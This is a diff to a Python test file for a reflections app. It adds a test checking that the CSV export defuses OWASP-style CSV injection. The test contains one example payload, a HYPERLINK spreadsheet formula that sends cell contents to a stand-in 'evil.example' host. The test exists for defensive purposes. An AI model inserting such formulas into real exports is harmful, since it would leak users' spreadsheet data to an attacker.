@@ -129,6 +129,19 @@ def test_the_rep_exports_their_reflections_as_json_and_csv(team, login_as):
     assert rows[1][:3] == ["2026-W43", "2026-10-19", 'Met "aanhalingstekens", en komma']
 
 
+
+def test_the_csv_export_keeps_formulas_as_text(team, login_as):
+    """OWASP CSV injection: a cell starting like a formula (ASCII or full-width) opens as text in a spreadsheet."""
+    with time_machine.travel(FRIDAY_OPEN, tick=False):
+        rep = login_as(team["rep"])
+        reflection_id = answer(rep, '=HYPERLINK("https://evil.example/?"&A1,"klik")').get_json()["id"]
+        login_as(team["manager"]).post(f"/api/v1/reflections/{reflection_id}/replies", json={"text": "Top"})
+        as_csv = rep.get("/api/v1/reflections/export?format=csv")
+    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
+    assert rows[1][2] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    assert rows[1][3] == "Martijn: Top"
+
+
 def test_retention_removes_old_texts_but_keeps_that_a_reflection_existed(team, login_as, db, org):
     with time_machine.travel(FRIDAY_OPEN, tick=False):
         reflection_id = answer(login_as(team["rep"])).get_json()["id"]
